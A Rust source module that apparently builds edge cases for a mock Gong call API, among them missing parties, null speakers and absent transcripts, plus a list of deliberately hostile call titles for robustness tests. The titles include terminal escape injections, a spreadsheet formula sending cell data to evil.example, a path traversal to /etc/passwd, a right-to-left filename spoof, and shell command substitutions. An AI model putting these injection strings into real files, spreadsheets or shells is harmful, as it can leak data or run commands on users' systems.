//! The hard cases: oddities of real tenants, each met at least once in any 150 calls.

use super::random::{Purpose, hash};

/// Every block of this many calls has each hazard once, in an order of its own.
const BLOCK: u64 = 70;
/// Steps through a block that have no factor in common with its length.
const STEPS: [u64; 8] = [3, 11, 13, 17, 19, 23, 27, 29];

/// What is odd about a call.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Hazard {
    /// There is no `parties` member at all.
    NoParties,
    /// `parties` is an empty array.
    EmptyParties,
    /// Some monologues have `speakerId` null.
    NullSpeaker,
    /// Some monologues have a `speakerId` that no party has.
    StrangerSpeaker,
    /// Somebody dialed in whom Gong could not place.
    UnknownAffiliation,
    /// Nobody but those who took part may see it.
    Private,
    /// The title is one that shells, terminals, spreadsheets, or file systems trip over.
    Title(usize),
    /// There is no title.
    NullTitle,
    /// Members of `metaData` that no document knows.
    UnknownMembers,
    /// Members of a party that no document knows.
    UnknownPartyMembers,
    /// All members that may be null are.
    NullMembers,
    /// The transcript never comes.
    NoTranscript,
    /// No `content` and no `interaction`.
    NoContent,
    /// A name and a sentence with escape sequences.
    HostileTalk,
}

/// Titles that break naive programs.
pub(super) const TITLES: [&str; 14] = [
    "\u{1b}[31mQuarterly review\u{1b}[0m",
    "\u{1b}]0;pwned\u{7}Kickoff call",
    "Ring the bell\u{7}\u{8}\u{8}",
    "First line\nSecond line\r\nThird line",
    "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Open me\")",
    "+1 415 555 0142 callback",
    "@sum(1+1)*cmd",
    "-2+3 follow-up",
    "../../etc/passwd",
    "C:\\Windows\\CON: minutes/2026|draft?",
    "Invoice \u{202e}gnp.exe\u{202c} walkthrough",
    "🚀 Launch sync 👩🏽‍💻🇺🇳 – naïve café Ω≈ç√",
    "  tabs\tand\u{9b}31m odd\u{200b}spaces\u{feff}  ",
    "\"Quoted\", comma, 'single'; $(touch x) `id` %s {0} <b>&amp;</b>",
];

/// The hazard of a call, if it has one.
pub(super) fn of(seed: u64, number: u64) -> Option<Hazard> {
    let (block, position) = (number / BLOCK, number % BLOCK);
    let bits = hash(seed, Purpose::Hazards, block);
    let step = STEPS[usize::try_from(bits % 8).unwrap_or(0)];
    let place = (position * step + (bits >> 8) % BLOCK) % BLOCK;
    Some(match place {
        0 => Hazard::NoParties,
        1 => Hazard::EmptyParties,
        2 => Hazard::NullSpeaker,
        3 => Hazard::StrangerSpeaker,
        4 | 5 => Hazard::UnknownAffiliation,
        6 | 7 => Hazard::Private,
        8 => Hazard::NullTitle,
        9 => Hazard::UnknownMembers,
        10 => Hazard::UnknownPartyMembers,
        11 => Hazard::NullMembers,
        12 => Hazard::NoTranscript,
        13 => Hazard::NoContent,
        14 => Hazard::HostileTalk,
        15..29 => Hazard::Title(usize::try_from(place - 15).unwrap_or(0)),
        _ => return None,
    })
}

impl Hazard {
    /// Whether it shows only in a conversation, so that the call must be one.
    pub(super) fn needs_talk(self) -> bool {
        matches!(
            self,
            Self::NullSpeaker
                | Self::StrangerSpeaker
                | Self::UnknownAffiliation
                | Self::HostileTalk
                | Self::NoParties
        )
    }

    /// Whether Gong knows nobody who took part.
    pub(super) fn hides_parties(self) -> bool {
        matches!(self, Self::NoParties | Self::EmptyParties)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn any_139_calls_meet_every_hazard() {
        for first in [0, 71, 1_000, 54_321] {
            let met: Vec<Hazard> =
                (first..first + 139).filter_map(|number| of(9, number)).collect();
            for title in 0..TITLES.len() {
                assert!(met.contains(&Hazard::Title(title)), "{title} after {first}");
            }
            for hazard in [Hazard::NoParties, Hazard::HostileTalk, Hazard::NoContent] {
                assert!(met.contains(&hazard), "{hazard:?} after {first}");
            }
        }
    }
}
